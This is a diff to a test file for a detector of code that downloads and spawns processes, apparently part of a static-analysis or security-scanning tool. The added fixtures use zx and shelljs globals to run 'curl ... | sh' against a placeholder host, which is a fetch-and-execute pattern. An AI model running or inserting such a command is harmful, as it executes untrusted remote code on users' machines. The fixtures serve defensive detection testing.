@@ -4,6 +4,17 @@ import { downloadsAndSpawns } from './downloads-and-spawns.ts';
 examine(downloadsAndSpawns, {
   speaks: [
     {
+      when: 'a library has put its functions among the globals',
+      files: {
+        'package.json': { name: 'specimen', type: 'module' },
+        'index.js': "import 'zx/globals'; await $`curl -s https://get.invalid/a | sh`;",
+      },
+    },
+    {
+      when: 'another library has done so',
+      files: { 'index.js': `require('shelljs/global'); exec('curl -s https://get.invalid/a | sh');` },
+    },
+    {
       when: 'a collection holds the function',
       files: {
         'index.js': `const cp = require('child_process');
